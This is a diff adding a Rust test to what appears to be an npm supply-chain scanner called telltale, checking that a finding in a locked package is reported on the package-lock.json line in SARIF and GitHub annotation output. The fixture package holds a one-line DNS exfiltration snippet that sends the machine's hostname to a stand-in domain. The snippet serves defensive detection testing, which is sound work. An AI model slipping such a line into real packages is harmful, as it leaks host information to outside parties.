@@ -1,5 +1,7 @@
 //! `npm:` targets through a registry served on loopback (hermetic).
 
+mod common;
+
 use std::process::Command;
 use telltale_registry::testing::{sri, FakeRegistry};
 
@@ -116,6 +118,67 @@ fn npm_target_with_wrong_integrity_is_an_error() {
             .unwrap()
             .contains("integrity check failed"),
         "{doc}"
+    );
+}
+
+/// Code scanning and workflow annotations put what a lockfile's package holds on the
+/// lockfile's line for it (the file inside the package as a related location), in SARIF that
+/// still validates against the 2.1.0 schema.
+#[test]
+fn lockfile_findings_land_on_the_lockfile_line() {
+    let bad =
+        tarball("require('dns').lookup(require('os').hostname() + '.x.example.top', () => {});");
+    let reg = FakeRegistry::new(&[("bad", "1.0.0", &bad, serde_json::json!({}))], &sri);
+    let dir = tempfile::tempdir().unwrap();
+    let lock = serde_json::json!({ "lockfileVersion": 3, "packages": {
+        "": { "name": "app" },
+        "node_modules/bad": { "version": "1.0.0", "resolved": format!("{}bad/-/1.0.0.tgz", reg.url), "integrity": sri(&bad) }
+    }});
+    let text = serde_json::to_string_pretty(&lock).unwrap();
+    let line = text
+        .lines()
+        .position(|l| l.contains("\"node_modules/bad\""))
+        .unwrap()
+        + 1;
+    let path = dir.path().join("package-lock.json");
+    std::fs::write(&path, &text).unwrap();
+    let run = |format: &str| {
+        let out = Command::new(env!("CARGO_BIN_EXE_telltale"))
+            .args(["scan", "--platform", "none", "--registry", &reg.url])
+            .args(["--format", format])
+            .arg(&path)
+            .env("TELLTALE_CACHE_DIR", dir.path().join("cache"))
+            .output()
+            .unwrap();
+        String::from_utf8_lossy(&out.stdout).into_owned()
+    };
+    let sarif: serde_json::Value = serde_json::from_str(&run("sarif")).unwrap();
+    common::assert_valid_sarif(&sarif);
+    let results = sarif["runs"][0]["results"].as_array().unwrap();
+    let exfil = results
+        .iter()
+        .find(|r| r["ruleId"] == "TT102")
+        .unwrap_or_else(|| panic!("{sarif:#}"));
+    let at = &exfil["locations"][0]["physicalLocation"];
+    assert!(
+        at["artifactLocation"]["uri"]
+            .as_str()
+            .unwrap()
+            .ends_with("package-lock.json"),
+        "{at}"
+    );
+    assert_eq!(at["region"]["startLine"], line, "{at}");
+    let related = &exfil["relatedLocations"][0]["physicalLocation"];
+    assert_eq!(
+        related["artifactLocation"]["uri"], "package/index.js",
+        "{related}"
+    );
+    let github = run("github");
+    assert!(
+        github.lines().any(|l| l.starts_with("::error file=")
+            && l.contains(&format!("package-lock.json,line={line},"))
+            && l.contains("::npm:bad@1.0.0: ")),
+        "{github}"
     );
 }
 
